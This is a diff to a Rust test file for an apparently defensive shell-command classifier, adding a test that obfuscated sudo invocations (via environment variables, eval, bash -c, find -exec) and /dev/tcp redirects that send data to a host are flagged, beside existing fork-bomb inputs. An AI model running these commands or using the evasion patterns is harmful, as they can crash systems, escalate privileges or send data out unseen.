@@ -484,6 +484,25 @@ fn secrets_and_the_network_do_not_go_together() {
 }
 
 #[test]
+fn what_cannot_be_known_is_still_searched() {
+    at_least(
+        Class::Destructive,
+        &[
+            "./sudo ls",
+            "/opt/x/bin/sudo ls",
+            "GIT_PAGER='sudo ls' git log",
+            "export EDITOR='sudo vi'",
+            "bash -c \"cd $d && sudo ls\"",
+            "bash -c \"echo \\\"$x\\\"; sudo ls\"",
+            "$x sudo ls",
+            "eval \"sudo $x\"",
+            "find . -exec sh -c 'echo {}; sudo ls' \\;",
+        ],
+    );
+    at_least(Class::Network, &["bash -c \"cat < /dev/tcp/$h/80\"", "eval \"echo $x > /dev/tcp/h/80\""]);
+}
+
+#[test]
 fn bombs_are_destructive() {
     all("destructive fork-bomb", &[":(){ :|:& };:", "f() { f | f & }; f", "bomb() { bomb & bomb; }; bomb"]);
     assert_ne!(ask("f() { ls; f; }; f").class, Class::Destructive);
